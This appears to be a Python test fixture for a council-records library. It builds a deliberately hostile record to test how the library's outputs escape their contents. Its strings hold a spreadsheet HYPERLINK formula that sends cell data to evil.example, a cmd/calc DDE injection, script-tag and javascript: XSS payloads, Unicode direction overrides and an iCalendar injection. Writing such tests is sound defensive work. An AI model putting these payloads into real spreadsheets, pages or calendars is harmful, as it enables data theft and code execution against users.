"""A small library to hand out of: the one of the screens, a verdict, and a record that tries to act in every format."""

from __future__ import annotations

from dataclasses import dataclass
from datetime import date
from pathlib import Path

from views_home import Ids, WordVectors, build, found_later, put, statement

from greenshoots import judgements, pipeline
from greenshoots.records import Attribution, Coverage, Deadline, Document, Statement, Traced

LINE = "word " * 20_000
HOSTILE = (
    '=HYPERLINK("https://evil.example/?"&A1) Cllr \u202eevoc\u202c will, by May 2030; fix\tit</script><script>alert(1)'
    "</script> [x](javascript:alert(2)) {\\b} & <b>bold</b>"
)
HOSTILE_NAME = "@SUM(1+1)*cmd|' /C calc'!A0 <img src=x onerror=alert(3)>\u202e"
HOSTILE_TITLE = "+Title\x00\x0b</title><script>alert(4)</script>\r\nEND:VCALENDAR\r\n"
NAMELESS = (
    "Public questions\n\nQuestion from Mrs Jane Wool\n\n"
    "Mrs Wool asked that the council repair the Quay Lane steps by June 2031. She may be rung on 01632 960151.\n"
)


@dataclass(frozen=True)
class World:
    """The statements of ``views_home``, and three more."""

    ids: Ids
    hostile: str
    long: str
    public: str


def hostile_document() -> Document:
    """A record whose every field tries something."""
    return Document(
        "hostile-1", f"Notes.\n\n{HOSTILE}\n\nThe end.\n", "report", HOSTILE_NAME, HOSTILE_TITLE,
        "javascript:alert(5)", date(2024, 2, 3),
    )  # fmt: skip


def hostile_statement() -> Statement:
    """The pledge in it."""
    return statement(
        hostile_document(), HOSTILE, "commitment", speaker=HOSTILE_NAME, role="=1+1", organisation="-2+3",
        attribution=Attribution("named", 0.9), deadline=Deadline("by May 2030; fix", date(2030, 5, 31)),
    )  # fmt: skip


def fill(home: Path, monkeypatch) -> World:
    """Fill the library in ``home``; searches for later records find what ``found_later`` tells."""
    ids = build(home)
    long = Document(
        "long-1", f"{LINE}.", "report", "Harbourside Council", "Long", "https://h.example.org/l", date(2024, 2, 4)
    )
    public = Document("public-1", NAMELESS, "minutes", "Harbourside Council", "Full Council", None, date(2024, 2, 5))
    asked = "Mrs Wool asked that the council repair the Quay Lane steps by June 2031."
    pieces = [
        (hostile_document(), hostile_statement()),
        (long, statement(long, f"{LINE}.", "commitment", speaker=LINE, deadline=Deadline("2032", date(2032, 12, 31)))),
        (public, statement(
            public, asked, "request", speaker="Jane Wool", deadline=Deadline("by June 2031", date(2031, 6, 30))
        )),
    ]  # fmt: skip
    with pipeline.library(home) as library:
        for document, found in pieces:
            put(library, document, found)
        library.vectors.refresh(library.store, WordVectors())
        judgements.give(library, ids.pledge, "kept late", by="Una Frost", reason="The library reopened in June 2024.")

    def trace(library: pipeline.Library, name: str) -> Traced:
        told = found_later(ids)(library, name)
        is_pledge = name == ids.pledge
        links = (*told.links, *told.undated) if is_pledge else ()
        library.store.put_links(
            name, links, searched=told.searched if is_pledge else Coverage(2, date(2024, 3, 1), date(2024, 5, 1))
        )
        return told

    monkeypatch.setattr(pipeline, "trace", trace)
    return World(ids, *(found.id for _, found in pieces))
